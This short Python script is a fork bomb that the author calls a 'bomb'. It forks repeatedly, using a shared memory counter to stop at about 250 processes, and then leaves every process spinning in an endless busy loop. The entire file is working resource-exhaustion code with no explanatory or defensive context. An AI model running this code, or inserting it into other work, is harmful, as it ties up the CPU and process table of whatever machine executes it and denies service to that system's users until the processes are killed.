import mmap
import os

forks = mmap.mmap(-1, 4096)  # seen by all of them, so that the bomb has an end wherever it goes off
while forks[0] < 250:
    try:
        if os.fork() > 0:
            forks[0] += 1
    except OSError:
        break
while True: pass
